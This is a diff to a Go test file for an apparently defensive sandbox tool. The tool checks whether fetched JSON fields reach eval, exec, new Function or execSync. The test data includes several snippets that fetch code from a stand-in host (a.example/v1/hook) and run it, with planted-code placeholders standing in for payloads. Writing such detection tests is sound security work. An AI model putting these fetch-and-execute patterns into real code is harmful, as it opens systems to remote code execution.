@@ -6,6 +6,8 @@ import (
 	"strings"
 	"testing"
 	"testing/fstest"
+
+	"github.com/coalmine-dev/coalmine/sandbox/sinkhole"
 )
 
 func TestRead(t *testing.T) {
@@ -35,6 +37,12 @@ func TestRead(t *testing.T) {
 			"forecast.example/v3/", `{"days":[{"day":"The second quarter looks steady.","price":12},{"day":"The second quarter looks steady.","price":12}]}`},
 		{"a list at the top", "a.js", "const rows = JSON.parse(text);\nrows.forEach(row => log(row.name));", "", `[{"name":"Autumn"},{"name":"Autumn"}]`},
 		{"a page of many", "a.js", "const d = await r.json();\nuse(d.next_cursor, d.has_more, d.items);", "", `{"has_more":true,"items":[],"next_cursor":"cGFnZT0y"}`},
+		{"what is evaluated", "a.js", "const j = await res.json();\nconst f = new Function('a', j.formula);\nreturn f(j.amount);", "", `{"amount":12,"formula":"{planted code}"}`},
+		{"what is evaluated by another name", "a.py", "d = response.json()\nfor r in d['rules']:\n    w = r['test']\n    eval(w, {})\n", "", `{"rules":[{"test":"{planted code}"},{"test":"{planted code}"}]}`},
+		{"members named as code where something is evaluated", "a.py", "d = response.json()\nrun(d['snippet'], d['title'])\n\ndef run(s, t):\n    exec(s)\n", "", `{"snippet":"{planted code}","title":"Autumn"}`},
+		{"the same where nothing is", "a.py", "d = response.json()\nshow(d['snippet'], re.compile(d['title']))\n", "", `{"snippet":"The second quarter looks steady.","title":"Autumn"}`},
+		{"a list whose elements are evaluated elsewhere", "a.py", "d = json.load(urllib.request.urlopen(u, timeout=5))\nSTEPS[:] = d.get('steps') or []\nfor s in STEPS:\n    exec(s['code'])\n", "", `{"steps":[{"code":"{planted code}"},{"code":"{planted code}"}]}`},
+		{"a line for a shell", "a.js", "const d = await r.json();\nexecSync(d.after);\nnew RegExp('a').exec(d.title);", "", `{"after":"{planted line}","title":"Autumn"}`},
 	} {
 		got := Read(fstest.MapFS{c.file: {Data: []byte(c.source)}})
 		if len(got) == 0 {
@@ -73,10 +81,32 @@ func FuzzRead(f *testing.F) {
 	f.Fuzz(func(t *testing.T, source string) {
 		for _, name := range []string{"a.js", "a.py"} {
 			for _, fit := range Read(fstest.MapFS{name: {Data: []byte(source)}}) {
-				if !json.Valid([]byte(fit.Body)) {
+				if fit.Body != sinkhole.PlantedCode && !json.Valid([]byte(fit.Body)) {
 					t.Fatalf("no JSON: %q", fit.Body)
 				}
 			}
 		}
 	})
+}
+
+func TestWhatIsRunWhole(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		file, source string
+		want         bool
+	}{
+		{"a.js", "const r = await fetch('https://a.example/v1/hook');\nconst body = await r.text();\nvm.runInNewContext(body, {});", true},
+		{"a.js", "const m = await import('data:text/javascript,' + encodeURIComponent(await (await fetch('https://a.example/v1/hook')).text()));", true},
+		{"a.py", "code = urlopen('https://a.example/v1/hook').read()\nexec(code)", true},
+		{"a.js", "const r = await fetch('https://a.example/v1/hook');\nconst body = await r.text();\nreturn /a/.exec(body);", false},
+		{"a.py", "text = urlopen('https://a.example/v1/hook').read()\nre.compile(text)", false},
+	} {
+		got := false
+		for _, f := range Read(fstest.MapFS{c.file: {Data: []byte(c.source)}}) {
+			got = got || f.Body == sinkhole.PlantedCode && strings.Contains(strings.Join(f.Words, " "), "a.example/v1/hook")
+		}
+		if got != c.want {
+			t.Errorf("%s: %v", c.source, got)
+		}
+	}
 }
